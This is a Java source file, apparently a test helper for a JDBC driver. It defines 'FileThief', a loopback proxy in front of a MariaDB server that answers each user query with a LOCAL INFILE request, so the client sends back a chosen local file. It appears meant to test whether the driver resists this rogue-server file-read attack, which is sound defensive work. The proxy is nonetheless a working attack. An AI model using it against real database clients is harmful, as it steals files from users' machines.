package org.plimsoll.driver.jdbc;

import static org.awaitility.Awaitility.await;

import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.EOFException;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * A loopback listener in front of a real MariaDB that answers each query of the user with a request
 * for a local file of the client, which the protocol allows.
 */
final class FileThief implements AutoCloseable {
  private static final int QUERY = 3;
  private static final int LOCAL_INFILE = 0xfb;

  private final ServerSocket listener;
  private final int serverPort;
  private final Path wanted;
  private final AtomicInteger asked = new AtomicInteger();
  private final AtomicInteger open = new AtomicInteger();
  private final ByteArrayOutputStream received = new ByteArrayOutputStream();

  private record Packet(int sequence, ByteBuffer payload) {}

  private FileThief(ServerSocket listener, int serverPort, Path wanted) {
    this.listener = listener;
    this.serverPort = serverPort;
    this.wanted = wanted;
  }

  static FileThief before(int serverPort, Path wanted) throws IOException {
    FileThief thief =
        new FileThief(
            new ServerSocket(0, 16, InetAddress.getLoopbackAddress()), serverPort, wanted);
    Thread.ofVirtual().start(thief::accept);
    return thief;
  }

  String address() {
    return "127.0.0.1:" + listener.getLocalPort();
  }

  /** How often it has asked for the file. */
  int asked() {
    return asked.get();
  }

  /** What it got from clients, once all of them have closed their connections. */
  String received() {
    await().atMost(Duration.ofSeconds(60)).until(() -> open.get() == 0);
    synchronized (received) {
      return received.toString(StandardCharsets.ISO_8859_1);
    }
  }

  private void accept() {
    try {
      while (true) {
        Socket client = listener.accept();
        Socket server = new Socket(InetAddress.getLoopbackAddress(), serverPort);
        open.incrementAndGet();
        Thread.ofVirtual().start(() -> pump(server, client));
        Thread.ofVirtual().start(() -> listen(client, server));
      }
    } catch (IOException e) {
      // It was closed.
    }
  }

  private static void pump(Socket from, Socket to) {
    try (from;
        to) {
      from.getInputStream().transferTo(to.getOutputStream());
    } catch (IOException e) {
      // One side has closed.
    }
  }

  private void listen(Socket client, Socket server) {
    try (client;
        server) {
      DataInputStream in = new DataInputStream(client.getInputStream());
      while (true) {
        Packet packet = read(in);
        byte[] payload = packet.payload().array();
        synchronized (received) {
          received.write(payload);
        }
        if (packet.sequence() == 0 && isQuery(payload)) {
          asked.incrementAndGet();
          write(client.getOutputStream(), 1, request());
        } else {
          write(server.getOutputStream(), packet.sequence(), payload);
        }
      }
    } catch (IOException e) {
      // One side has closed.
    } finally {
      open.decrementAndGet();
    }
  }

  /** Whether it is a query of the user. The client's own begin with "set", and send no file. */
  private static boolean isQuery(byte[] payload) {
    return payload.length > 0
        && payload[0] == QUERY
        && !new String(payload, 1, payload.length - 1, StandardCharsets.UTF_8).startsWith("set ");
  }

  private byte[] request() {
    byte[] name = wanted.toString().getBytes(StandardCharsets.UTF_8);
    byte[] request = new byte[name.length + 1];
    request[0] = (byte) LOCAL_INFILE;
    System.arraycopy(name, 0, request, 1, name.length);
    return request;
  }

  private static Packet read(DataInputStream in) throws IOException {
    int length = in.readUnsignedByte() | in.readUnsignedByte() << 8 | in.readUnsignedByte() << 16;
    int sequence = in.readUnsignedByte();
    byte[] payload = in.readNBytes(length);
    if (payload.length < length) {
      throw new EOFException();
    }
    return new Packet(sequence, ByteBuffer.wrap(payload));
  }

  private static void write(OutputStream out, int sequence, byte[] payload) throws IOException {
    byte[] packet = new byte[payload.length + 4];
    packet[0] = (byte) payload.length;
    packet[1] = (byte) (payload.length >> 8);
    packet[2] = (byte) (payload.length >> 16);
    packet[3] = (byte) sequence;
    System.arraycopy(payload, 0, packet, 4, payload.length);
    out.write(packet);
    out.flush();
  }

  @Override
  public void close() {
    try {
      listener.close();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }
}
